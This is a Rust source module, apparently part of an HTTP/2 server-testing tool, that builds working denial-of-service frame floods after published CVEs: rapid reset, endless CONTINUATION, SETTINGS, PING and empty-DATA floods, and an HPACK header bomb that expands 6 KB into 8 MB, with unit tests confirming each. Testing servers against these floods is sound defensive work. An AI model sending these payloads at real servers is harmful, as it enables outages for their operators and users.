//! Floods of HTTP/2: frames that are cheap to send, and dear to whoever takes each of them for a wish.
//!
//! Each is one of those that were published: rapid reset (CVE-2023-44487), CONTINUATION without an end (CVE-2024-27316),
//! SETTINGS, PING and empty DATA (CVE-2019-9515, 9512, 9518), and a head that grows where it is decoded (CVE-2016-6581).

use crate::{
    backend::{ECHO, SMALL},
    http2::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, PING, RST_STREAM, SETTINGS, begin,
        field, frame, get, post, remembered, stream,
    },
};

/// Of what there is too much.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Flood {
    /// Requests that are taken back at once.
    Reset,
    /// A head that never ends.
    Continuation,
    Settings,
    Ping,
    /// A body without bytes.
    Data,
    /// Heads of 6 KB that become 8 MB.
    Headers,
}

/// Frames that a turn sends.
const BURST: usize = 100;
/// Requests that it resets: fewer, as each may cost one at the backend.
const RESETS: u32 = 20;
/// What a bomb's field has, which fits the dynamic table: it has 4,096 bytes, of which each entry takes 32 beyond its own.
const BOMB: usize = 4000;
/// How often it says so, in a byte each.
const TIMES: usize = 2000;
/// The announced length of a body of which nothing comes.
const BODY: usize = 1_000_000;

impl Flood {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Reset => "flood-reset",
            Self::Continuation => "flood-continuation",
            Self::Settings => "flood-settings",
            Self::Ping => "flood-ping",
            Self::Data => "flood-data",
            Self::Headers => "flood-headers",
        }
    }

    pub(crate) fn title(self) -> &'static str {
        match self {
            Self::Reset => "HTTP/2: 1,000 clients that reset 200 requests a second",
            Self::Continuation => {
                "HTTP/2: 1,000 clients that send 1,000 CONTINUATION a second, of a head without an end"
            }
            Self::Settings => "HTTP/2: 1,000 clients that send 1,000 SETTINGS a second",
            Self::Ping => "HTTP/2: 1,000 clients that send 1,000 PING a second",
            Self::Data => "HTTP/2: 1,000 clients that send 1,000 empty DATA a second",
            Self::Headers => "HTTP/2: 1,000 clients that send ten heads a second, of 6 KB that become 8 MB",
        }
    }

    /// What a connection begins with.
    pub(crate) fn first(self) -> Vec<u8> {
        let opened = match self {
            Self::Continuation => frame(HEADERS, END_STREAM, stream(0), &get(SMALL.0)),
            Self::Data => frame(HEADERS, END_HEADERS, stream(0), &post(ECHO, BODY)),
            _ => Vec::new(),
        };
        [begin(), opened].concat()
    }

    /// What it sends in this turn, from 0 on.
    pub(crate) fn burst(self, turn: u32) -> Vec<u8> {
        match self {
            Self::Reset => (0..RESETS).flat_map(|number| taken_back(turn * RESETS + number)).collect(),
            Self::Continuation => frame(CONTINUATION, 0, stream(0), &field("x-flood", "yes")).repeat(BURST),
            // SETTINGS_INITIAL_WINDOW_SIZE, as it is anyway.
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(BURST),
            Self::Ping => frame(PING, 0, 0, b"pingpong").repeat(BURST),
            Self::Data => frame(DATA, 0, stream(0), &[]).repeat(BURST),
            Self::Headers => frame(HEADERS, END_STREAM | END_HEADERS, stream(turn), &bomb()),
        }
    }
}

/// A request, and its reset with CANCEL.
fn taken_back(request: u32) -> Vec<u8> {
    let asked = frame(HEADERS, END_STREAM | END_HEADERS, stream(request), &get(SMALL.0));
    [asked, frame(RST_STREAM, 0, stream(request), &[0, 0, 0, 8])].concat()
}

fn bomb() -> Vec<u8> {
    [get(SMALL.0), remembered("x", &".".repeat(BOMB)), vec![NEWEST; TIMES]].concat()
}

#[cfg(test)]
mod tests {
    use bytes::Bytes;
    use tokio::io::{AsyncWriteExt, duplex};

    use super::*;

    const ALL: [Flood; 6] =
        [Flood::Reset, Flood::Continuation, Flood::Settings, Flood::Ping, Flood::Data, Flood::Headers];

    /// The type, the stream and the length of each frame.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u32, usize)> {
        let mut frames = Vec::new();
        while let [a, b, c, kind, _, s1, s2, s3, s4, rest @ ..] = bytes {
            let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
            frames.push((*kind, u32::from_be_bytes([*s1, *s2, *s3, *s4]), length));
            bytes = &rest[length..];
        }
        assert!(bytes.is_empty(), "{} bytes that are no frame", bytes.len());
        frames
    }

    #[test]
    fn each_turn_has_whole_frames_of_its_kind_and_as_many_as_its_title_says() {
        for flood in ALL {
            let sent = frames(&flood.burst(0));
            let (kind, count) = match flood {
                Flood::Reset => (RST_STREAM, 20),
                Flood::Continuation => (CONTINUATION, 100),
                Flood::Settings => (SETTINGS, 100),
                Flood::Ping => (PING, 100),
                Flood::Data => (DATA, 100),
                Flood::Headers => (HEADERS, 1),
            };
            assert_eq!(sent.iter().filter(|frame| frame.0 == kind).count(), count, "{flood:?}");
        }
    }

    #[test]
    fn no_stream_is_opened_twice() {
        for flood in [Flood::Reset, Flood::Headers] {
            let opened: Vec<_> = (0..3).flat_map(|turn| frames(&flood.burst(turn))).collect();
            let opened: Vec<_> =
                opened.iter().filter(|frame| frame.0 == HEADERS).map(|frame| frame.1).collect();
            assert!(opened.windows(2).all(|pair| pair[0] < pair[1] && pair[0] % 2 == 1), "{opened:?}");
        }
    }

    #[tokio::test]
    async fn a_bomb_is_small_until_it_is_decoded() {
        let (mut client, server) = duplex(1 << 20);
        let bomb = Flood::Headers.burst(0);
        assert!((5900..6100).contains(&bomb.len()), "{}", bomb.len());
        client.write_all(&[Flood::Headers.first(), bomb].concat()).await.unwrap();
        let mut builder = h2::server::Builder::new();
        let mut connection =
            builder.max_header_list_size(16 << 20).handshake::<_, Bytes>(server).await.unwrap();
        let (request, _) = connection.accept().await.unwrap().unwrap();
        let bytes: usize = request.headers().get_all("x").into_iter().map(|value| value.len()).sum();
        assert_eq!(bytes, 8_004_000);
    }

    #[tokio::test]
    async fn what_is_flooded_is_what_another_implementation_takes_for_requests() {
        for (sent, method) in
            [([Flood::Reset.first(), Flood::Reset.burst(0)].concat(), "GET"), (Flood::Data.first(), "POST")]
        {
            let (mut client, server) = duplex(1 << 20);
            client.write_all(&sent).await.unwrap();
            let mut connection = h2::server::handshake(server).await.unwrap();
            let (request, _) = connection.accept().await.unwrap().unwrap();
            assert_eq!(request.method(), method);
        }
    }
}
